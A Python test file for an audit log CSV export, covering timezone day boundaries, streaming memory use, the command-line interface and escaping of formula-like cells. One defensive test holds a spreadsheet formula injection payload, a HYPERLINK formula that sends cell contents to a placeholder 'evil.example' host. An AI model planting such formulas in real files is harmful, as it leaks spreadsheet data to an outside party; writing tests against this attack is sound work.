"""The audit as a spreadsheet reads it: complete, in the office's time, and nothing but data."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert

from errors.asking import NothingFound
from files.cells import inert
from kakari.audit_export import HEADER, Wanted, export
from kakari.cli import main
from ledger import numbers
from ledger.audit import EffectNote, What, Who, note, note_effects
from ledger.database import Ledger
from ledger.models import AuditRow
from tests.unit.ledger.office import NUMBER, ask

TOKYO = ZoneInfo("Asia/Tokyo")
BOB = Who("users/2", "Bob")


def lines(exported: bytes) -> list[dict[str, str]]:
    assert exported.startswith(b"\xef\xbb\xbf"), "the mark that Excel knows UTF-8 by"
    return list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))


def exported(ledger: Ledger, wanted: Wanted | None = None) -> list[dict[str, str]]:
    out = io.BytesIO()
    export(ledger, wanted or Wanted(), TOKYO, out)
    return lines(out.getvalue())


def noted_at(ledger: Ledger, *moments: datetime) -> None:
    with ledger.write() as tx:
        rows = [{"at": moment, "job_id": "j1", "what": What.ASKED} for moment in moments]
        tx.execute(insert(AuditRow), rows)


def test_a_line_tells_all_that_was_noted(ledger: Ledger) -> None:
    job = ask(ledger, subject="鈴木邸")
    with ledger.write() as tx:
        numbers.draw(tx, NUMBER, job, 2026)
        note(tx, job, What.APPROVED, BOB, plan="abc")
        why = {"en": "It has no room.", "ja": "空きがありません。"}
        link = "https://drive.example.com/d"
        note_effects(tx, job, [EffectNote("/図面", "drive.folder", "failed", link, why)])
    asked, approved, failed = exported(ledger)
    assert asked["what"] == "asked"
    assert tuple(approved) == HEADER
    assert datetime.fromisoformat(approved.pop("time")).utcoffset() == TOKYO.utcoffset(
        datetime.now(UTC)
    )
    about = {
        "job": job,
        "numbers": "P-2026-0001",
        "task": "project",
        "subject": "鈴木邸",
        "space": "spaces/AAA",
        "asker": "Alice <users/1>",
    }
    none = dict.fromkeys(("effect", "kind", "outcome", "link", "sentence"), "")
    said = {"what": "approved", "who": "Bob <users/2>", "plan": "abc"}
    assert approved == {**about, **said, **none}
    assert {name: failed[name] for name in ("what", "who", *none)} == {
        "what": "effect.failed",
        "who": "",
        "effect": "/図面",
        "kind": "drive.folder",
        "outcome": "failed",
        "link": link,
        "sentence": "空きがありません。",
    }


def test_days_are_the_offices_and_both_are_included(ledger: Ledger) -> None:
    midnight = datetime(2026, 11, 21, 15, tzinfo=UTC)  # 22 November begins in Tokyo
    evening = datetime(2026, 11, 22, 14, 59, 59, tzinfo=UTC)
    before = datetime(2026, 11, 21, 14, 59, 59, tzinfo=UTC)
    after = datetime(2026, 11, 22, 15, tzinfo=UTC)
    noted_at(ledger, before, midnight, evening, after)
    day = date(2026, 11, 22)
    told = [line["time"] for line in exported(ledger, Wanted(since=day, until=day))]
    assert told == ["2026-11-22T00:00:00+09:00", "2026-11-22T23:59:59+09:00"]


def test_what_people_typed_is_no_formula(ledger: Ledger) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1,"見積")'
    job = ask(ledger, subject=evil, asker_name="@SUM(1+9)")
    with ledger.write() as tx:
        note(tx, job, What.ASKED, Who("users/9", "+49 30"))
    line = exported(ledger)[-1]
    assert line["subject"] == f"'{evil}"
    assert line["asker"].startswith("'@SUM")
    assert line["who"].startswith("'+49")


@given(st.sampled_from("=+-@\t\r\n＝＋－＠"), st.text())
def test_no_cell_begins_as_a_formula_does(sign: str, rest: str) -> None:
    assert inert(sign + rest) == f"'{sign}{rest}"
    assert not inert(rest).startswith(tuple("=+-@\t\r"))
    assert inert(rest).removeprefix("'") == rest.removeprefix("'"), "and nothing is lost"


def test_a_job_nobody_knows_is_a_sentence(ledger: Ledger) -> None:
    noted_at(ledger, datetime(2026, 11, 22, tzinfo=UTC))
    with pytest.raises(NothingFound, match="P-1999-0001"):
        exported(ledger, Wanted(reference="P-1999-0001"))


def test_a_long_audit_takes_no_more_memory_than_a_short_one(ledger: Ledger) -> None:
    class Discard(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            return len(data)

    def peak() -> int:
        tracemalloc.start()
        export(ledger, Wanted(), TOKYO, io.BufferedWriter(Discard()))
        _, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    moment = datetime(2026, 11, 22, tzinfo=UTC)
    noted_at(ledger, *[moment] * 1_000)
    peak()  # what is made once
    short = peak()
    noted_at(ledger, *[moment] * 5_000)
    assert peak() < 2 * short


def test_the_command_writes_a_file_or_to_the_standard_output(
    sqlite_ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in {
        "DATABASE_URL": str(sqlite_ledger.url),
        "ENDPOINT_URL": "https://kakari.example.com/chat",
        "PROJECT_NUMBER": "123456789012",
        "GOOGLE_KEY_FILE": "key.json",
        "PROJECT_PLACE": "drive:1AbC-d_9",
    }.items():
        monkeypatch.setenv(f"KAKARI_{name}", value)
    job = ask(sqlite_ledger, subject="鈴木邸")

    def run(*arguments: str, code: int = 0) -> bytes:
        result = CliRunner().invoke(main, ["audit", *arguments])
        assert result.exit_code == code, result.output
        return result.stderr_bytes if code else result.stdout_bytes

    file = tmp_path / "audit.csv"
    assert run("--job", "鈴木邸", "--out", str(file)) == b""
    assert [line["subject"] for line in lines(file.read_bytes())] == ["鈴木邸"]
    assert run("--job", job) == file.read_bytes()
    assert lines(run("--until", "2020-01-01")) == []
    assert "There is no request" in run("--job", "田中", "--out", str(file), code=1).decode()
    assert lines(file.read_bytes()), "what was there before is untouched"
    assert b"Usage" in run("--since", "yesterday", code=2)
